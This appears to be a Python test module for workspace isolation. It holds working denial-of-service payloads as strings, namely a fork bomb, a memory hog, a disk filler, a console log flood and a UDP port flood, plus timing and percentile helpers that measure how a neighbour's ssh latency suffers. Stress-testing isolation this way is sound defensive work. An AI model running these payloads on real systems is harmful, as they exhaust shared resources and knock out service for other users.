"""What a workspace does when somebody in it means ill: programs for root inside, and how a neighbour's ssh feels it."""

from __future__ import annotations

import math
import time
from collections.abc import Callable, Sequence

SECONDS = 25  # that each attack goes on

FORK_BOMB = """
import os
while True:
    try:
        if os.fork() == 0:
            continue
    except OSError:
        pass
"""
MEMORY_HOG = """
import os
while True:
    if os.fork() == 0:
        kept = []
        while True:
            kept.append(os.urandom(1 << 16) * 64)
    os.wait()
"""
DISK_FILL = """
import itertools, os, sys
for directory in itertools.cycle(sys.argv[1:]):
    file = os.open(f"{directory}/fill", os.O_WRONLY | os.O_CREAT)
    try:
        while True:
            os.write(file, bytes(1 << 20))
    except OSError:
        os.close(file)
"""  # what is full stays so, and is written over again
LOG_FLOOD = """
line = "x" * 200 + "\\n"
with open("/dev/console", "w") as console:
    while True:
        console.write(line * 100)
        console.flush()
"""
CONNECTION_FLOOD = """
import socket, sys
host, port = sys.argv[1], int(sys.argv[2])
number = 0
while True:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        try:
            for other in range(1, 200):
                one.sendto(b"x" * 64, (host, 1 + (port + number + other) % 65000))
        except OSError:
            pass
    number += 200
"""


def percentile(values: Sequence[float], share: float = 0.95) -> float:
    """The value that `share` of them do not exceed."""
    return sorted(values)[max(0, math.ceil(len(values) * share) - 1)]


def measure(ask: Callable[[], object], count: int) -> list[float]:
    """Seconds that each of `count` turns takes, one after the other."""
    taken = []
    for _ in range(count):
        begun = time.monotonic()
        ask()
        taken.append(time.monotonic() - begun)
    return taken
